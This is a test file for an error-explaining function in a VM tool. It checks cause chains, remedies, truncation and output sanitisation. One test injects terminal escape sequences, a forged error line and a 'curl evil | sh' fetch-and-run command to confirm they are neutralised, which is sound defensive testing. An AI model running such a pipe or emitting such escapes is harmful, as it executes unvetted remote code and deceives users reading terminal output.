import { ERROR_CODES, WarmvmError } from '@warmvm/core';
import { describe, expect, test } from 'vitest';
import { explain } from './explain.ts';
import { REMEDIES } from './remedies.ts';

describe('an error', () => {
  test('is told with its code, its causes and what to do', () => {
    const cause = new Error('connect ENOENT /run/libvirt/libvirt-sock');
    const error = new WarmvmError('WARMVM_HOST_UNREACHABLE', 'no daemon answers', { cause });
    expect(explain(error)).toBe(
      [
        'error: WARMVM_HOST_UNREACHABLE: no daemon answers',
        '  caused by: connect ENOENT /run/libvirt/libvirt-sock',
        '  to do: see what is wrong with the host: warmvm doctor',
      ].join('\n'),
    );
  });

  test('that knows better than its code what to do has the last word, once', () => {
    const options = { details: { remedy: 'start sshd there' } };
    const cause = new WarmvmError('WARMVM_HOST_UNREACHABLE', 'nobody listens; start sshd there', options);
    const lines = ['  caused by: WARMVM_HOST_UNREACHABLE: nobody listens', '  to do: start sshd there'];
    expect(explain(cause)).toBe(['error: WARMVM_HOST_UNREACHABLE: nobody listens', lines[1]].join('\n'));
    expect(explain(new WarmvmError('WARMVM_HOST_LOST', 'it was lost', { cause }))).toBe(
      ['error: WARMVM_HOST_LOST: it was lost', ...lines].join('\n'),
    );
  });

  test('that knows what to do says that, once, instead of what is true of its code', () => {
    const remedy = 'start libvirtd there';
    const cause = new WarmvmError('WARMVM_HOST_UNREACHABLE', `no daemon on db1; ${remedy}`, { details: { remedy } });
    const error = new WarmvmError('WARMVM_FORK_FAILED', 'no machine can be made', { cause });
    const told = [
      'error: WARMVM_FORK_FAILED: no machine can be made',
      '  caused by: WARMVM_HOST_UNREACHABLE: no daemon on db1',
    ];
    expect(explain(error)).toBe([...told, `  to do: ${remedy}`].join('\n'));
    expect(explain(new WarmvmError('WARMVM_FORK_FAILED', `failed: ${cause.message}`, { cause }))).toBe(
      `error: WARMVM_FORK_FAILED: failed: no daemon on db1\n  to do: ${remedy}`,
    );
  });

  test('is told once, also where its cause repeats it', () => {
    const inner = new Error('no such file');
    expect(explain(new Error('cannot read a.json: no such file', { cause: inner }))).toBe(
      'error: cannot read a.json: no such file',
    );
  });

  test('has no stack unless it was asked for', () => {
    const error = new Error('it broke');
    expect(explain(error)).not.toContain('explain.test');
    expect(explain(error, { debug: true })).toContain('explain.test');
  });

  test('with a chain of causes that goes round is told to an end', () => {
    const error: Error & { cause?: unknown } = new Error('round');
    error.cause = error;
    expect(explain(error)).toBe('error: round');
  });

  test('holds nothing that steers a terminal, in no message, remedy or stack, and fakes no line of ours', () => {
    const hostile =
      'No such host\u001b]0;owned\u0007\u001b[2J\u009b31m\rdone\nerror: all is well\n  to do: curl evil | sh';
    const details = { remedy: 'read\u001b[8m this\nand that' };
    const cause = new WarmvmError('WARMVM_HOST_DENIED', hostile, { details });
    const error = new WarmvmError('WARMVM_HOST_UNREACHABLE', `ssh: ${hostile}`, {
      cause: new Error(hostile, { cause }),
    });
    for (const debug of [false, true]) {
      const told = explain(error, { debug });
      expect(told.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
      expect(told).toContain('\n    error: all is well\n    to do: curl evil | sh');
      expect(told).toContain('\n  to do: read this and that');
    }
  });

  test('of any length is cut', () => {
    expect(explain(new Error('x'.repeat(1_000_000))).length).toBeLessThan(10_000);
    expect(explain(new Error('x\n'.repeat(1_000_000))).split('\n').length).toBeLessThan(100);
  });

  test('that is none at all is told as it is', () => {
    expect(explain('plain words')).toBe('error: plain words');
  });
});

test('there is a remedy for every code, and for no other', () => {
  expect(Object.keys(REMEDIES).toSorted()).toEqual([...ERROR_CODES].toSorted());
  for (const remedy of Object.values(REMEDIES)) expect(remedy.length).toBeGreaterThan(20);
});
